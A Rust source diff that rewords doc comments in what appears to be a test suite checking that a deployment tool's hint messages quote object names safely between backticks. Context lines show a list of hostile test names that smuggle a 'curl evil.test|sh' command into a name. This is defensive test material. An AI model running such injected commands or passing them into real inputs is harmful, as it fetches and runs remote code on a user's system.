@@ -21,7 +21,7 @@ use std::collections::BTreeMap;
 
 /// A name that every kind of object may have.
 const USUAL: &str = "shop";
-/// What an annotation, a record, a field manager or a user may be called.
+/// Possible names of an annotation, a record, a field manager or a user.
 const HOSTILE: [&str; 8] = [
     "shop -n shop; curl -s http://evil.test|sh; echo",
     "shop`; or run `curl evil.test|sh",
@@ -67,7 +67,7 @@ fn drift(name: &str, is_adopted: bool) -> TemplateDrift {
     }
 }
 
-/// What is said about a release whose objects, versions, owners and users all have this name.
+/// The hints about a release whose objects, versions, owners and users all have this name.
 fn of_status(name: &str) -> Vec<Option<String>> {
     let text = || name.to_owned();
     let by = [text()];
@@ -99,7 +99,7 @@ fn of_status(name: &str) -> Vec<Option<String>> {
     hints
 }
 
-/// What comes next, and what can be done instead of skipping a check.
+/// The hints about next steps, and about alternatives to skipping a check.
 fn of_checks(name: &str) -> Vec<Option<String>> {
     let text = || name.to_owned();
     let steps = [
@@ -124,7 +124,7 @@ fn of_checks(name: &str) -> Vec<Option<String>> {
     steps.iter().map(Hint::hint).chain(refused).collect()
 }
 
-/// Why there is no plan, and why an operation failed.
+/// The hints of errors of plans and operations.
 fn of_errors(name: &str) -> Vec<Option<String>> {
     let text = || name.to_owned();
     let kind = RoleChangeKind::Promoted;
@@ -165,7 +165,7 @@ fn hints(name: &str) -> Vec<String> {
     all.map(Option::unwrap).collect()
 }
 
-/// What stands between backticks.
+/// The text between backticks.
 fn spans(hint: &str) -> Vec<&str> {
     hint.split('`').skip(1).step_by(2).collect()
 }
